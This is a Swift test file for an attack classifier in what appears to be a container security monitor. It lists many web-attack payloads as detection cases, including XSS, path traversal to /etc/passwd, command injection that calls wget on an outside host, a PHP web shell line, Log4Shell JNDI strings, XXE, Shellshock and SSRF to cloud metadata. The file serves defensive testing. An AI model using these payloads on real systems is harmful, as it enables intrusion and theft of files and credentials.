// Jaga - container security monitor
// SPDX-License-Identifier: Apache-2.0

import Testing
import WebAttacks

@Suite("Classes of attacks")
struct AttackClassTests {
    @Test(
        "each class is known by its structure",
        arguments: [
            ("xss", "<script>alert(1)</script>"), ("xss", "\"><img src=x onerror=prompt(1)>"),
            ("xss", "javascript:alert(document.cookie)"), ("xss", "x\" onmouseover=alert(1) \""),
            ("xss", "<svg/onload=confirm`1`>"), ("xss", "self[\"alert\"](1)"),
            ("lfi", "../../../../etc/passwd"), ("lfi", "....//....//boot.ini"),
            ("lfi", "/etc/shadow"), ("lfi", "c:\\windows\\win.ini"), ("lfi", "php.ini\u{0}"),
            ("rce", ";id"), ("rce", "127.0.0.1|cat /etc/hosts"),
            ("rce", "$(wget http://198.51.100.3/x)"),
            ("rce", "`whoami`"), ("rce", "a;c'a't /etc/passwd"), ("rce", "for %i in (1,2) do dir"),
            ("rce", "; ping -c 3 198.51.100.3"), ("rce", "x && sleep 15"),
            ("code", "<?php system($_GET['c']); ?>"), ("code", "phpinfo()"),
            ("code", "java.lang.Runtime.getRuntime().exec('id')"),
            ("code", "class.module.classLoader.resources"), ("code", "constructor.prototype.admin"),
            ("ssti", "{{7*7}}"), ("ssti", "${7*7}"), ("ssti", "{{config.items()}}"),
            ("ssti", "<%= 7*7 %>"),
            ("log4shell", "${jndi:ldap://198.51.100.3/a}"),
            ("log4shell", "${${::-j}${::-n}di:ldap://a/b}"),
            ("xxe", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
            ("ssi", "<!--#exec cmd=\"ls\"-->"), ("nosqli", "{\"$gt\": \"\"}"),
            ("ldap", "*)(uid=*))(|(uid=*"), ("xpath", "count(/child::node())"),
            ("crlf", "x\r\nSet-Cookie: a=b"), ("ssrf", "http://169.254.169.254/latest/"),
            ("rfi", "http://198.51.100.3/c99.txt?"), ("ssrf", "gopher://198.51.100.3/_x"),
            ("shellshock", "() { :;}; /bin/id"),
        ]
    )
    func classOfValue(expected: String, value: String) {
        #expect(classes(value).contains(expected))
    }

    @Test(
        "harmless values that look like one are none",
        arguments: [
            "wait... what/?", "/products/shoes", "cats;dogs", "black & white", "find me a cat",
            "the id of things", "https://example.com/page?id=123", "{name}", "50% off", "7*7",
            "a|b",
            "I <3 <3 THE DOCTOR", "bash away in the gym", "<joost> hi there", "h2<h1", "1..2",
            "adaptative prompt for bash & zsh",
            "time-series data display system (Python3 interface)",
            "find all require() calls by walking the AST", "monadic looping; documentation",
            "{\"jsonrpc\":\"2.0\",\"method\":\"get\",\"params\":{\"id\":650}}", "$5:00", "C++ & C#",
            "Network Block Device client library -- shared library", "(1+2)+(3+4)",
            "<?xml-stylesheet type=\"text/xsl\" href=\"style.xsl\"?>", "mandel@example.org",
        ]
    )
    func harmless(value: String) {
        #expect(classes(value) == [])
    }

    @Test("headers are looked at too")
    func headers() {
        #expect(attacks("/", agent: "() { :;}; /bin/id").first?.kind == .shellshock)
        #expect(attacks("/", agent: "() { :;}; /bin/id").first?.place == .userAgent)
        #expect(attacks("/", referrer: "https://${jndi:dns://a/b}").first?.place == .referrer)
        #expect(attacks("/", agent: "sqlmap/1.7 (https://sqlmap.org)").first?.kind == .scanner)
        let browser =
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
        #expect(
            attacks("/", agent: browser, referrer: "https://www.google.com/search?q=rock+and+roll")
                == []
        )
    }

    @Test("what a request tries stands before what sent it")
    func scannerLast() {
        let found = attacks("/?id=1+or+1=1", agent: "sqlmap/1.7")

        #expect(found.map(\.kind) == [.sqlInjection, .scanner])
    }

    @Test("paths: files that should not be public, and ways above the root")
    func paths() {
        #expect(attacks("/.git/config").first?.kind == .probe)
        #expect(attacks("/backup.sql.zip").first?.kind == .probe)
        #expect(attacks("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd").first?.kind == .localFile)
        #expect(attacks("/a/b/../c.html") == [])
        #expect(attacks("/~user/file.txt") == [])
        #expect(attacks("/.well-known/acme-challenge/x") == [])
    }

    @Test("a session's id handed to a page that signs in")
    func sessions() {
        #expect(attacks("/login?ci_session=abc").first?.kind == .sessionFixation)
        #expect(attacks("/login?jsessionid=abc123") == [])
        #expect(attacks("/list?ci_session=abc") == [])
    }

    @Test("base64 and the names of parameters are looked into")
    func hiddenPlaces() {
        #expect(attacks("/?f=Li4vLi4vLi4vZXRjL3Bhc3N3ZA==").first?.kind == .localFile)
        #expect(attacks("/?__proto__%5Bx%5D=1").first?.kind == .code)
        #expect(attacks("/?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9") == [])
    }
}
